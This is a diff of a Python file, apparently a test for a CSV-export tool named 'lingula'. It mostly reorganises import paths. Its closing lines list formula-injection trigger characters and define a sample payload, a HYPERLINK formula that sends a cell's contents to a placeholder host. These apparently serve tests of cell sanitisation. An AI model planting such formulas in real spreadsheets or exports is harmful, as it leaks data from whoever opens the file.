@@ -15,25 +15,26 @@ import torch
 from PIL import Image
 
 import lingula
-from lingula.config import Config, vary
-from lingula.csv_cells import original_cell, plain_cell, plain_csv
-from lingula.data.boxes import read_boxes
-from lingula.data.checking import check
-from lingula.data.mapping import read_map
-from lingula.data.reading import read_table, write_table
-from lingula.data.rows import keep_rows
-from lingula.data.table import Table
-from lingula.ensembles import model_wise
-from lingula.errors import InputError
-from lingula.labels import LabelSpace
 from lingula.model.checkpoint import newest_checkpoint
 from lingula.model.text import embed
 from lingula.model.tiny_text import save_tiny
-from lingula.predictions import Predictions, read_scores, write_scores
 from lingula.reporting.ladder import Ladder, Line, to_csv
-from lingula.reviewing import apply_corrections, disagreements, write_corrections
+from lingula.reporting.reviewing import apply_corrections, disagreements, write_corrections
+from lingula.scores.ensembles.weighting import model_wise
+from lingula.scores.predictions import Predictions, read_scores, write_scores
+from lingula.settings.config import Config, vary
+from lingula.settings.label_space import LabelSpace
+from lingula.system.csv_cells import original_cell, plain_cell, plain_csv
+from lingula.system.errors import InputError
+from lingula.tables.boxes import read_boxes
+from lingula.tables.checking import check
+from lingula.tables.mapping import read_map
+from lingula.tables.reading import read_table, write_table
+from lingula.tables.rows import keep_rows
+from lingula.tables.table import Table
+from lingula.training import examples
 from lingula.verbs import ensemble as ensemble_verb
-from lingula.verbs import examples, explain
+from lingula.verbs import explain
 
 SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 EVIL = '=HYPERLINK("http://x/?"&A1)'
